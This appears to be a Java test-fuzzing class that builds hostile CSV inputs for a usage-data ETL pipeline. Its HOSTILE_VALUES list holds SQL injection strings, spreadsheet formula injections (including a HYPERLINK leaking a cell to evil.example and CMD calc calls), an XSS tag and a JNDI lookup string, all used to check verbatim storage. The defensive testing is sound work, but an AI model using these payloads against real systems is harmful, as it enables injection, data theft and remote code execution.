package com.usageintel.pipeline;

import com.usageintel.pipeline.generate.UsageDataGenerator;
import com.usageintel.schemas.IssueCode;
import com.usageintel.schemas.RawColumns;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.Reader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;

/**
 * A hostile raw CSV input drawn from a seed: realistic rows from the generator mixed with broken
 * ones (random bytes, invalid UTF-8, NUL bytes, unbalanced quotes, megabyte fields, thousands of
 * columns, very long lines, every null-like spelling, SQL- and formula-looking values) under one of
 * many headers (varied, duplicated, missing, absent, alone, thousands of columns wide).
 *
 * <p>Besides the bytes it keeps what is known by construction: whether the header must be refused,
 * where each row starts and, for the rows written before the first piece that can shift the
 * framing (random bytes, a quote never closed), what the reader must make of them.
 */
final class HostileCsv {
  /** Values that look like SQL or spreadsheet formulas; all must be stored verbatim. */
  static final List<String> HOSTILE_VALUES = List.of(
      "'); DROP TABLE fact_feature_usage; --",
      "Robert'); DROP TABLE etl_run;--",
      "1; DELETE FROM stg_feature_usage WHERE true",
      "$$; TRUNCATE dim_user; $$",
      "\\'; SELECT pg_sleep(10); --",
      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
      "=CMD|' /C calc'!A0",
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "@SUM(1,2)",
      "-2+3+cmd|' /C calc'!A0",
      "<script>alert(1)</script>",
      "%s%n%x ${jndi:ldap://evil.example/a}",
      "\u202Egnp.exe",
      "Zoë 🚗 Müller");

  /** The contract's null-like spellings (section 2). */
  static final List<String> NULL_LIKE =
      List.of("", "nan", "na", "n/a", "null", "none", "unknown", "-", "?");

  private static final List<byte[]> INVALID_UTF8 = List.of(
      bytes(0xC0, 0xAF), bytes(0xED, 0xA0, 0x80), bytes(0xFF), bytes(0x80), bytes(0xE2, 0x82),
      bytes(0xF5, 0x80, 0x80, 0x80), bytes(0xF0, 0x8F, 0xBF, 0xBF), bytes(0xC3));

  private static final List<String> LINE_ENDS = List.of("\n", "\r\n", "\r");
  private static final List<String> PADDING = List.of(" ", "\t", "\u00A0", "  ");
  private static final List<String> KEY_COLUMNS = List.of(RawColumns.USER_ID, RawColumns.REGION,
      RawColumns.VEHICLE_MODEL, RawColumns.FEATURE_NAME, RawColumns.OS_TYPE,
      RawColumns.SUBSCRIPTION_STATUS);
  private static final int HUGE_FIELD_MIN = 900_000;
  private static final int HUGE_FIELD_MAX = 1_100_000;

  /** Realistic rows, each as its eleven values in {@link RawColumns#REQUIRED} order. */
  private static final List<List<String>> VALID_ROWS = generatedRows(3_000, 7);

  /** Letters only (no comma, quote or line end), shared by every megabyte field. */
  private static final String LETTERS = letters(HUGE_FIELD_MAX);

  enum HeaderKind {
    USUAL(false), VARIED(false), WIDE(false), HEADER_ONLY(false), EMPTY(false),
    NO_HEADER(true), DUPLICATE_REQUIRED(true), MISSING_COLUMN(true), GARBAGE(true);

    final boolean refused;

    HeaderKind(boolean refused) {
      this.refused = refused;
    }
  }

  /** What a row written before any framing-shifting piece must become. */
  enum Outcome {
    /** A well-formed record with exactly the written values. */
    WELL_FORMED,
    /** Well formed, and rejected by cleaning with exactly {@link Expected#reasons}. */
    REJECTED_BY_CLEANING,
    /** Well formed, and rejected by cleaning with {@link Expected#reasons} among its reasons. */
    REJECTED_BY_CLEANING_AMONG_OTHERS,
    /** Rejected by the reader with exactly {@link Expected#reasons}. */
    MALFORMED
  }

  /** One row known by construction: the line where it starts, and what it must become. */
  record Expected(
      String kind, long line, Outcome outcome, Map<String, String> values, List<String> reasons) {}

  final long seed;
  final HeaderKind header;
  final int maxRecordBytes;
  final byte[] bytes;
  /** Where the first data row may start: just after the header's line end. */
  final int headerEnd;
  final List<Expected> expected;
  /** The hostile values written into rows that must load: (column, value as written). */
  final List<Map.Entry<String, String>> hostileValues;

  private HostileCsv(
      long seed,
      HeaderKind header,
      int maxRecordBytes,
      byte[] bytes,
      int headerEnd,
      List<Expected> expected,
      List<Map.Entry<String, String>> hostileValues) {
    this.seed = seed;
    this.header = header;
    this.maxRecordBytes = maxRecordBytes;
    this.bytes = bytes;
    this.headerEnd = headerEnd;
    this.expected = expected;
    this.hostileValues = hostileValues;
  }

  /** Any input, any header. */
  static HostileCsv draw(long seed) {
    SplittableRandom random = new SplittableRandom(seed);
    HeaderKind header = weighted(random);
    int maxRecordBytes = random.nextInt(4) == 0 ? 4096 : 1 << 20;
    return new Writer(seed, random, header, maxRecordBytes).write(false, false);
  }

  /**
   * An input with a readable header and every kind of piece at least once; the megabyte field
   * only if asked for, as it is costly to load.
   */
  static HostileCsv drawLoadable(long seed, int maxRecordBytes, boolean hugeField) {
    SplittableRandom random = new SplittableRandom(seed);
    HeaderKind header = pick(random, List.of(HeaderKind.USUAL, HeaderKind.VARIED));
    return new Writer(seed, random, header, maxRecordBytes).write(true, hugeField);
  }

  /** An input whose header must be refused. */
  static HostileCsv drawRefused(long seed, HeaderKind header) {
    return new Writer(seed, new SplittableRandom(seed), header, 1 << 20).write(false, false);
  }

  String describe() {
    return "seed " + seed + " (header " + header + ", maxRecordBytes " + maxRecordBytes + ", "
        + bytes.length + " bytes)";
  }

  private static HeaderKind weighted(SplittableRandom random) {
    int r = random.nextInt(100);
    if (r < 40) {
      return HeaderKind.VARIED;
    }
    if (r < 60) {
      return HeaderKind.USUAL;
    }
    if (r < 63) {
      return HeaderKind.WIDE;
    }
    List<HeaderKind> rest = List.of(HeaderKind.HEADER_ONLY, HeaderKind.EMPTY, HeaderKind.NO_HEADER,
        HeaderKind.DUPLICATE_REQUIRED, HeaderKind.MISSING_COLUMN, HeaderKind.GARBAGE);
    return rest.get(random.nextInt(rest.size()));
  }

  private static <T> T pick(SplittableRandom random, List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  /** Writes one input: a header, then pieces, each with its line end and some blank lines. */
  private static final class Writer {
    private final long seed;
    private final SplittableRandom random;
    private final HeaderKind header;
    private final int maxRecordBytes;
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final List<Expected> expected = new ArrayList<>();
    private final List<Map.Entry<String, String>> hostileValues = new ArrayList<>();
    /** Every column of the header, required ones by name, others as null, in file order. */
    private final List<String> columns = new ArrayList<>();
    /** Rows written so far can be predicted: no piece before them can shift the framing. */
    private boolean framingKnown = true;
    private int hostileRows;

    Writer(long seed, SplittableRandom random, HeaderKind header, int maxRecordBytes) {
      this.seed = seed;
      this.random = random;
      this.header = header;
      this.maxRecordBytes = maxRecordBytes;
    }

    HostileCsv write(boolean everyKind, boolean hugeField) {
      if (random.nextInt(5) == 0) {
        out.writeBytes(bytes(0xEF, 0xBB, 0xBF));
      }
      writeHeader();
      int headerEnd = out.size();
      if (header != HeaderKind.HEADER_ONLY && header != HeaderKind.EMPTY) {
        List<String> kinds = new ArrayList<>();
        if (everyKind) {
          kinds.addAll(SAFE_KINDS);
        }
        if (hugeField) {
          kinds.add("HUGE_FIELD");
        }
        int more = 3 + random.nextInt(25);
        for (int i = 0; i < more; i++) {
          String kind = drawKind();
          kinds.add(everyKind && !hugeField && kind.equals("HUGE_FIELD") ? "VALID" : kind);
        }
        shuffle(kinds);
        if (everyKind) {
          // The pieces that may shift the framing go last, so every other piece is checked.
          kinds.add("RANDOM_BYTES");
          kinds.add("UNCLOSED_QUOTE");
        }
        for (String kind : kinds) {
          blankLines();
          writePiece(kind);
        }
      }
      blankLines();
      return new HostileCsv(seed, header, maxRecordBytes, out.toByteArray(), headerEnd,
          List.copyOf(expected), List.copyOf(hostileValues));
    }

    private static final List<String> SAFE_KINDS = List.of("VALID", "HOSTILE_VALUE", "NULL_LIKE",
        "MANY_COLUMNS", "NUL", "INVALID_UTF8", "LONG_LINE", "TEXT_AFTER_QUOTE");

    /** Mostly rows that load; the costly pieces (megabytes, long lines) rarely. */
    private String drawKind() {
      int r = random.nextInt(1_000);
      String[] kinds = {"VALID", "HOSTILE_VALUE", "NULL_LIKE", "HUGE_FIELD", "MANY_COLUMNS", "NUL",
          "INVALID_UTF8", "LONG_LINE", "TEXT_AFTER_QUOTE", "RANDOM_BYTES", "UNCLOSED_QUOTE"};
      int[] weights = {480, 180, 80, 1, 40, 50, 50, 9, 60, 35, 15};
      for (int i = 0; i < kinds.length; i++) {
        r -= weights[i];
        if (r < 0) {
          return kinds[i];
        }
      }
      throw new IllegalStateException("weights do not add up to 1000");
    }

    private void writeHeader() {
      List<String> names = new ArrayList<>(RawColumns.REQUIRED);
      switch (header) {
        case EMPTY:
          return;
        case GARBAGE:
          out.writeBytes(randomBytes(1 + random.nextInt(300)));
          out.writeBytes(lineEnd());
          return;
        case NO_HEADER:
          // The first row is data: no column names at all.
          return;
        case DUPLICATE_REQUIRED:
          names.add(pick(random, RawColumns.REQUIRED));
          break;
        case MISSING_COLUMN:
          names.remove(random.nextInt(names.size()));
          break;
        case WIDE:
          for (int i = 0; i < 2_000 + random.nextInt(2_000); i++) {
            names.add(null);
          }
          break;
        case VARIED:
          for (int i = random.nextInt(4); i > 0; i--) {
            names.add(null);
          }
          break;
        default:
          break;
      }
      if (header != HeaderKind.USUAL) {
        shuffle(names);
      }
      List<String> written = new ArrayList<>();
      for (String name : names) {
        columns.add(name);
        if (name == null) {
          written.add(pick(random, List.of("notes", "extra", "user id", "", "comment", "notes")));
        } else if (header == HeaderKind.USUAL) {
          written.add(name);
        } else {
          String cased = random.nextBoolean() ? name.toUpperCase(Locale.ROOT) : name;
          written.add(padded(cased));
        }
      }
      out.writeBytes(utf8(csvLine(written)));
      out.writeBytes(lineEnd());
    }

    private void writePiece(String kind) {
      // No expected piece starts with LF, so a CR just before it is a line end of its own.
      long line = Lines.lineAt(out.toByteArray(), out.size());
      switch (kind) {
        case "VALID" -> wellFormed(kind, line, generatorRow(), Outcome.WELL_FORMED, List.of());
        case "HOSTILE_VALUE" -> {
          Map<String, String> values = generatorRow();
          // A user, feature and time of its own: the row loads as a new event, whatever it holds.
          values.put(RawColumns.USER_ID, "HOSTILE-" + seed + "-" + (++hostileRows));
          values.put(RawColumns.FEATURE_NAME, "Navigation");
          values.put(RawColumns.FEATURE_USED_AT, "2025-03-01 12:00:00");
          String column = pick(random, KEY_COLUMNS);
          String value = pick(random, HOSTILE_VALUES);
          values.put(column, value);
          if (framingKnown) {
            hostileValues.add(Map.entry(column, value));
          }
          wellFormed(kind, line, values, Outcome.WELL_FORMED, List.of());
        }
        case "NULL_LIKE" -> {
          Map<String, String> values = new LinkedHashMap<>();
          for (String column : RawColumns.REQUIRED) {
            String spelling = pick(random, NULL_LIKE);
            values.put(column, padded(random.nextBoolean() ? spelling.toUpperCase(Locale.ROOT) : spelling));
          }
          wellFormed(kind, line, values, Outcome.REJECTED_BY_CLEANING, List.of(
              IssueCode.MISSING_USER_ID.name(), IssueCode.MISSING_FEATURE.name(),
              IssueCode.MISSING_TIMESTAMP.name()));
        }
        case "HUGE_FIELD" -> {
          Map<String, String> values = generatorRow();
          String column = pick(random, RawColumns.REQUIRED);
          values.put(column, LETTERS.substring(0, HUGE_FIELD_MIN
              + random.nextInt(HUGE_FIELD_MAX - HUGE_FIELD_MIN)));
          boolean key = KEY_COLUMNS.contains(column);
          wellFormed(kind, line, values,
              key ? Outcome.REJECTED_BY_CLEANING_AMONG_OTHERS : Outcome.WELL_FORMED,
              key ? List.of(IssueCode.VALUE_TOO_LONG.name()) : List.of());
        }
        case "MANY_COLUMNS" -> {
          int count = columns.size() + 1_000 + random.nextInt(3_000);
          List<String> fields = new ArrayList<>();
          for (int i = 0; i < count; i++) {
            fields.add(Integer.toString(i));
          }
          malformed(kind, line, utf8(csvLine(fields)));
        }
        case "NUL" -> malformed(kind, line, insert(rowBytes(generatorRow()), bytes(0)));
        case "INVALID_UTF8" -> malformed(kind, line, insert(rowBytes(generatorRow()), pick(random, INVALID_UTF8)));
        case "LONG_LINE" -> malformed(kind, line, utf8(LETTERS.substring(0, 10_000 + random.nextInt(50_000))));
        case "TEXT_AFTER_QUOTE" -> {
          byte[] row = rowBytes(generatorRow());
          malformed(kind, line, concat(utf8("\"UK\"x,"), row));
        }
        case "RANDOM_BYTES" -> {
          out.writeBytes(randomBytes(1 + random.nextInt(200)));
          framingKnown = false;
        }
        case "UNCLOSED_QUOTE" -> {
          out.writeBytes(concat(utf8("\"never closed,"), rowBytes(generatorRow())));
          framingKnown = false;
        }
        default -> throw new IllegalArgumentException(kind);
      }
      out.writeBytes(lineEnd());
    }

    private void wellFormed(
        String kind, long line, Map<String, String> values, Outcome outcome, List<String> reasons) {
      byte[] row = rowBytes(values);
      out.writeBytes(row);
      if (!framingKnown || header.refused) {
        return;
      }
      if (row.length > maxRecordBytes) {
        expected.add(new Expected(kind, line, Outcome.MALFORMED, values,
            List.of(IssueCode.RECORD_TOO_LARGE.name())));
      } else {
        expected.add(new Expected(kind, line, outcome, values, reasons));
      }
    }

    private void malformed(String kind, long line, byte[] row) {
      out.writeBytes(row);
      if (!framingKnown || header.refused) {
        return;
      }
      IssueCode reason = row.length > maxRecordBytes ? IssueCode.RECORD_TOO_LARGE : IssueCode.MALFORMED_RECORD;
      expected.add(new Expected(kind, line, Outcome.MALFORMED, Map.of(), List.of(reason.name())));
    }

    /** A realistic row's values by column name, in a fresh mutable map. */
    private Map<String, String> generatorRow() {
      List<String> row = VALID_ROWS.get(random.nextInt(VALID_ROWS.size()));
      Map<String, String> values = new LinkedHashMap<>();
      for (int i = 0; i < RawColumns.REQUIRED.size(); i++) {
        values.put(RawColumns.REQUIRED.get(i), row.get(i));
      }
      return values;
    }

    /** The row in this file's column order; extra columns get small values of their own. */
    private byte[] rowBytes(Map<String, String> values) {
      List<String> fields = new ArrayList<>();
      List<String> order = columns.isEmpty() ? RawColumns.REQUIRED : columns;
      for (String column : order) {
        fields.add(column == null ? pick(random, List.of("", "x", "a,b", "say \"hi\"")) : values.get(column));
      }
      return utf8(csvLine(fields));
    }

    private String csvLine(List<String> fields) {
      StringBuilder line = new StringBuilder();
      for (int i = 0; i < fields.size(); i++) {
        String field = fields.get(i);
        if (i > 0) {
          line.append(',');
        }
        boolean mustQuote = field.indexOf(',') >= 0 || field.indexOf('"') >= 0
            || field.indexOf('\r') >= 0 || field.indexOf('\n') >= 0
            || (fields.size() == 1 && field.isEmpty());
        if (mustQuote || random.nextInt(10) == 0) {
          line.append('"').append(field.replace("\"", "\"\"")).append('"');
        } else {
          line.append(field);
        }
      }
      return line.toString();
    }

    private String padded(String value) {
      return (random.nextBoolean() ? pick(random, PADDING) : "") + value
          + (random.nextBoolean() ? pick(random, PADDING) : "");
    }

    private byte[] lineEnd() {
      return utf8(pick(random, LINE_ENDS));
    }

    private void blankLines() {
      for (int i = random.nextInt(8) == 0 ? 1 + random.nextInt(3) : 0; i > 0; i--) {
        out.writeBytes(lineEnd());
      }
    }

    /** The bytes with {@code inserted} placed at a random position. */
    private byte[] insert(byte[] row, byte[] inserted) {
      int at = random.nextInt(row.length + 1);
      return concat(Arrays.copyOfRange(row, 0, at), inserted, Arrays.copyOfRange(row, at, row.length));
    }

    private byte[] randomBytes(int length) {
      byte[] bytes = new byte[length];
      for (int i = 0; i < length; i++) {
        bytes[i] = (byte) random.nextInt(256);
      }
      return bytes;
    }

    private <T> void shuffle(List<T> list) {
      for (int i = list.size() - 1; i > 0; i--) {
        int j = random.nextInt(i + 1);
        T t = list.get(i);
        list.set(i, list.get(j));
        list.set(j, t);
      }
    }
  }

  /** Physical lines as the contract counts them: CR, LF and CRLF each end one. */
  static final class Lines {
    private Lines() {}

    /** The 1-based line on which byte {@code offset} lies. */
    static long lineAt(byte[] bytes, int offset) {
      long line = 1;
      for (int i = 0; i < offset; i++) {
        if (bytes[i] == '\n' || (bytes[i] == '\r' && !(i + 1 < bytes.length && bytes[i + 1] == '\n'))) {
          line++;
        }
      }
      return line;
    }

    /** The offset where each line starts: index 0 is line 1. */
    static int[] starts(byte[] bytes) {
      List<Integer> starts = new ArrayList<>(List.of(0));
      for (int i = 0; i < bytes.length; i++) {
        boolean crlf = bytes[i] == '\r' && i + 1 < bytes.length && bytes[i + 1] == '\n';
        if (bytes[i] == '\n' || (bytes[i] == '\r' && !crlf)) {
          starts.add(i + 1);
        }
      }
      return starts.stream().mapToInt(Integer::intValue).toArray();
    }
  }

  private static List<List<String>> generatedRows(int rows, long seed) {
    ByteArrayOutputStream csv = new ByteArrayOutputStream();
    try {
      new UsageDataGenerator(1).generate(rows, seed, csv);
      try (Reader reader = new InputStreamReader(
              new java.io.ByteArrayInputStream(csv.toByteArray()), StandardCharsets.UTF_8);
          CSVParser parser = CSVParser.builder().setReader(reader)
              .setFormat(CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())
              .get()) {
        List<List<String>> values = new ArrayList<>();
        for (CSVRecord record : parser.getRecords()) {
          List<String> row = new ArrayList<>();
          for (String column : RawColumns.REQUIRED) {
            row.add(record.get(column));
          }
          values.add(List.copyOf(row));
        }
        return List.copyOf(values);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String letters(int length) {
    SplittableRandom random = new SplittableRandom(1);
    StringBuilder text = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      text.append((char) ('a' + random.nextInt(26)));
    }
    return text.toString();
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] bytes(int... values) {
    byte[] bytes = new byte[values.length];
    for (int i = 0; i < values.length; i++) {
      bytes[i] = (byte) values[i];
    }
    return bytes;
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream joined = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      joined.writeBytes(part);
    }
    return joined.toByteArray();
  }
}
